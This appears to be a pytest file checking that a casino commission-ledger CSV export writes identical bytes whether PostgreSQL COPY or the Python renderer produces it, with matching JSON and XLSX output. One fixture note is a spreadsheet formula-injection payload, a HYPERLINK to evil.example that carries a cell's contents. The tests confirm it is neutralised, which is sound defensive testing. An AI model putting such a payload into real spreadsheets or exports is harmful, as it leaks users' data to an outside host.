"""The commission ledger detail as CSV: one file, byte for byte, whichever path writes it.

On PostgreSQL the export is formatted, subtotalled and streamed by the database itself (COPY of a
GROUPING SETS query); SQLite, and any other report, keep the Python renderer. Both must write the
same bytes as the renderer wrote before the COPY path existed: a formula-like note made inert, a
currency without cents, a reversal, subtotals per shoe and table and a total per currency, times in
the report's time zone in whole seconds.
"""

import csv
import dataclasses
import datetime as dt
import io
import json
from decimal import Decimal
from pathlib import Path
from unittest import mock

import openpyxl
import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.utils import timezone

from pit.ledger.models import CommissionEntry, EntryKind
from pit.ledger.services import commission_collect, commission_entry_reverse
from pit.reports import renderers, services
from pit.reports.catalog import COMMISSION_DETAIL
from pit.reports.definitions import ReportFilters
from pit.reports.models import ExportStatus, ReportExport
from pit.shoes.services import shoe_close
from tests import factories
from tests.factories import wager
from tests.reports.conftest import BANKER_NATURAL, DAY_1, DAY_2, PLAYER_NATURAL, at
from tests.reports.mixed_pit import YEN_LIMITS

# A moment with microseconds: every entry is recorded at it (whole seconds are kept, never rounded).
RECORDED = dt.datetime(2026, 11, 2, 10, 20, 30, 999999, tzinfo=dt.UTC)
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
QUOTED_NOTE = 'Left early, said "later"\nback tomorrow'
FILTERS = ReportFilters(DAY_1, DAY_2)


@pytest.fixture
def ledger(db, django_capture_on_commit_callbacks):
    """A1 (USD): a reversed accrual, a player who left with a formula for a note, another whose
        note needs quoting, a tab-led note, then a shoe still dealing; B1 (JPY, no cents) on two days,
    the second shoe still dealing (subtotals that are not zero). Every entry recorded at RECORDED."""

    def step(service, *args, **kwargs):
        with django_capture_on_commit_callbacks(execute=True):
            return service(*args, **kwargs)

    def coup(shoe, number, hands, when, wagers):
        player, banker = hands
        return step(factories.coup, shoe, number, player, banker, wagers=wagers, dealt_at=when)

    with mock.patch("django.utils.timezone.now", return_value=RECORDED):
        a1 = step(factories.table, "A1", preset="commission_box")
        b1 = step(factories.table, "B1", preset="commission_box", currency="JPY", limits=YEN_LIMITS)
        shoe = step(factories.shoe, a1, shuffled_at=at(DAY_1, 9))
        coup(
            shoe,
            1,
            BANKER_NATURAL,
            at(DAY_1, 10),
            [wager(1, "banker", "100"), wager(2, "banker", "250"), wager(3, "banker", "40"), wager(5, "player", "50")],
        )
        coup(shoe, 2, BANKER_NATURAL, at(DAY_1, 10, 5), [wager(1, "banker", "100"), wager(5, "banker", "25")])
        accrual = CommissionEntry.objects.get(shoe=shoe, seat=1, kind=EntryKind.ACCRUED, wager__coup__number=1)
        step(commission_entry_reverse, entry=accrual, note="-comped, coup 1")
        step(commission_collect, shoe=shoe, seat=2, note=HOSTILE_NOTE)
        step(commission_collect, shoe=shoe, seat=3, note=QUOTED_NOTE)
        step(commission_collect, shoe=shoe, seat=5, note="\t@seat 5")
        step(shoe_close, shoe=shoe, closed_at=at(DAY_1, 11), box_counts=[(1, Decimal("5.00"))])
        dealing = step(factories.shoe, a1, shuffled_at=at(DAY_1, 11, 30))
        coup(dealing, 1, BANKER_NATURAL, at(DAY_1, 12), [wager(7, "banker", "300")])

        yen = step(factories.shoe, b1, shuffled_at=at(DAY_1, 9))
        coup(yen, 1, BANKER_NATURAL, at(DAY_1, 10), [wager(1, "banker", "2530"), wager(2, "banker", "1000")])
        step(shoe_close, shoe=yen, closed_at=at(DAY_1, 11), box_counts=[(1, Decimal("127")), (2, Decimal("50"))])
        yen = step(factories.shoe, b1, shuffled_at=at(DAY_2, 9))
        coup(yen, 1, PLAYER_NATURAL, at(DAY_2, 10), [wager(1, "banker", "1200")])
        coup(yen, 2, BANKER_NATURAL, at(DAY_2, 10, 5), [wager(1, "banker", "2000")])  # still dealing
    return list(CommissionEntry.objects.order_by("pk").values_list("pk", flat=True))


def python_csv(filters: ReportFilters = FILTERS) -> bytes:
    return b"".join(renderers.python_csv_chunks(COMMISSION_DETAIL, filters))


def written_csv(filters: ReportFilters = FILTERS) -> bytes:
    out = io.BytesIO()
    renderers.csv_write(COMMISSION_DETAIL, filters, out)
    return out.getvalue()


# What the renderer wrote before the COPY path existed, for `ledger` in America/St_Johns (-03:30):
# {n} is the n-th entry of the fixture (ids differ between databases and runs).
GOLDEN = (
    'Line,Gaming day,Table,Shoe,Seat,Currency,Entry,Kind,Collection reason,Reverses entry,Coup,Bet,Stake,'
    'Amount owed (+) / collected (-),Recorded at,Note\r\n'
    'detail,2026-11-02,A1,1,1,USD,{1},accrued,,,1,banker,100.00,5.00,2026-11-02T06:50:30-03:30,\r\n'
    'detail,2026-11-02,A1,1,1,USD,{4},accrued,,,2,banker,100.00,5.00,2026-11-02T06:50:30-03:30,\r\n'
    'detail,2026-11-02,A1,1,1,USD,{6},reversal,,{1},,,,-5.00,2026-11-02T06:50:30-03:30,"\'-comped, coup 1"\r\n'
    'detail,2026-11-02,A1,1,1,USD,{10},collected,shuffle,,,,,-5.00,2026-11-02T06:50:30-03:30,\r\n'
    'detail,2026-11-02,A1,1,2,USD,{2},accrued,,,1,banker,250.00,12.50,2026-11-02T06:50:30-03:30,\r\n'
    'detail,2026-11-02,A1,1,2,USD,{7},collected,player_left,,,,,-12.50,2026-11-02T06:50:30-03:30,'
    '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n'
    'detail,2026-11-02,A1,1,3,USD,{3},accrued,,,1,banker,40.00,2.00,2026-11-02T06:50:30-03:30,\r\n'
    'detail,2026-11-02,A1,1,3,USD,{8},collected,player_left,,,,,-2.00,2026-11-02T06:50:30-03:30,'
    '"Left early, said ""later""\nback tomorrow"\r\n'
    'detail,2026-11-02,A1,1,5,USD,{5},accrued,,,2,banker,25.00,1.25,2026-11-02T06:50:30-03:30,\r\n'
    "detail,2026-11-02,A1,1,5,USD,{9},collected,player_left,,,,,-1.25,2026-11-02T06:50:30-03:30,'\t@seat 5\r\n"
    'shoe subtotal,2026-11-02,A1,1,,USD,,,,,,,,0.00,,\r\n'
    'detail,2026-11-02,A1,2,7,USD,{11},accrued,,,1,banker,300.00,15.00,2026-11-02T06:50:30-03:30,\r\n'
    'shoe subtotal,2026-11-02,A1,2,,USD,,,,,,,,15.00,,\r\n'
    'table subtotal,,A1,,,USD,,,,,,,,15.00,,\r\n'
    'detail,2026-11-02,B1,1,1,JPY,{12},accrued,,,1,banker,2530,127,2026-11-02T06:50:30-03:30,\r\n'
    'detail,2026-11-02,B1,1,1,JPY,{14},collected,shuffle,,,,,-127,2026-11-02T06:50:30-03:30,\r\n'
    'detail,2026-11-02,B1,1,2,JPY,{13},accrued,,,1,banker,1000,50,2026-11-02T06:50:30-03:30,\r\n'
    'detail,2026-11-02,B1,1,2,JPY,{15},collected,shuffle,,,,,-50,2026-11-02T06:50:30-03:30,\r\n'
    'shoe subtotal,2026-11-02,B1,1,,JPY,,,,,,,,0,,\r\n'
    'detail,2026-11-03,B1,2,1,JPY,{16},accrued,,,2,banker,2000,100,2026-11-02T06:50:30-03:30,\r\n'
    'shoe subtotal,2026-11-03,B1,2,,JPY,,,,,,,,100,,\r\n'
    'table subtotal,,B1,,,JPY,,,,,,,,100,,\r\n'
    'total,,,,,JPY,,,,,,,,100,,\r\n'
    'total,,,,,USD,,,,,,,,15.00,,\r\n'
)  # fmt: skip


def golden(ids: list[int]) -> bytes:
    return ("\ufeff" + "".join(GOLDEN).format(None, *ids)).encode()


def test_the_python_renderer_writes_what_it_always_wrote(ledger):
    with timezone.override("America/St_Johns"):
        assert python_csv() == golden(ledger)


@pytest.mark.postgres
def test_postgresql_writes_the_same_bytes_by_copy(ledger):
    def no_python_rows(filters):
        raise AssertionError("the COPY path reads no rows through Python")

    copy_only = dataclasses.replace(COMMISSION_DETAIL, rows=no_python_rows)
    with connection.cursor() as cursor:
        cursor.execute("SHOW TimeZone")
        session_zone = cursor.fetchone()
    for zone in ("America/St_Johns", "UTC", "Asia/Tokyo"):
        with timezone.override(zone):
            out = io.BytesIO()
            renderers.csv_write(copy_only, FILTERS, out)
            assert out.getvalue() == python_csv(), zone
    with timezone.override("America/St_Johns"):
        assert b"".join(renderers.csv_chunks(copy_only, FILTERS)) == golden(ledger)
    for filters in (
        ReportFilters(DAY_2, DAY_2),
        ReportFilters(DAY_1, DAY_2, tables=("B1",)),
        ReportFilters(DAY_1, DAY_2, game="mini"),
    ):  # the last: nothing but the header
        assert b"".join(renderers.csv_chunks(copy_only, filters)) == python_csv(filters), filters
    with connection.cursor() as cursor:  # this test's transaction shares the connection: left as it was
        cursor.execute("SHOW TimeZone")
        assert cursor.fetchone() == session_zone


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_a_background_export_streams_copy_on_its_own_connection_with_progress(ledger, settings, tmp_path):
    """Outside a transaction the COPY has a connection of its own: the export's progress is written
    (on the task's connection) while the lines stream, and the file holds the same bytes."""
    settings.MEDIA_ROOT = tmp_path
    user = User.objects.create_user(username="counter", password="pw-counter-123")
    export = ReportExport.objects.create(
        report=COMMISSION_DETAIL.slug, format="csv", filters=FILTERS.to_dict(), requested_by=user, rows_estimated=16
    )
    seen = []

    def csv_write(definition, filters, out, progress, **options):
        def recorded(rows):
            progress(rows)  # saved at once (PROGRESS_EVERY is 1 here), while the COPY streams
            seen.append(ReportExport.objects.values_list("rows_written", flat=True).get(pk=export.pk))

        renderers.csv_write(definition, filters, out, progress=recorded, **options)

    with (
        mock.patch.object(services, "PROGRESS_EVERY", 1),
        mock.patch.object(renderers, "DETAIL_PROGRESS_EVERY", 5),
        mock.patch.object(services, "csv_write", csv_write),
    ):
        done = services.report_export_run(export_id=export.pk)
    assert seen == [5, 10, 15, 16]
    assert (done.status, done.rows_written) == (ExportStatus.DONE, 16)
    assert (Path(settings.MEDIA_ROOT) / done.file).read_bytes() == python_csv()


@pytest.mark.postgres
def test_json_and_xlsx_agree_with_the_copied_csv(ledger):
    """The other formats keep the Python renderer: the same lines, amounts and times as COPY's CSV."""
    with timezone.override("America/St_Johns"):
        text = b"".join(renderers.csv_chunks(COMMISSION_DETAIL, FILTERS)).decode().removeprefix("\ufeff")
        document = json.loads(b"".join(renderers.json_chunks(COMMISSION_DETAIL, FILTERS)))
        out = io.BytesIO()
        renderers.xlsx_write(COMMISSION_DETAIL, FILTERS, out)
    lines = list(csv.DictReader(io.StringIO(text, newline="")))
    rows = document["rows"] + document["totals"]
    amount = "Amount owed (+) / collected (-)"
    assert [(line["Line"], line["Entry"], line[amount], line["Recorded at"]) for line in lines] == [
        (row["line"], str(row["entry"] or ""), row["amount"], row["recorded_at"] or "") for row in rows
    ]
    sheet = openpyxl.load_workbook(out).worksheets[0]
    amounts = [row[13].value for row in sheet.iter_rows(min_row=2)]
    assert amounts == [Decimal(line[amount]) for line in lines]
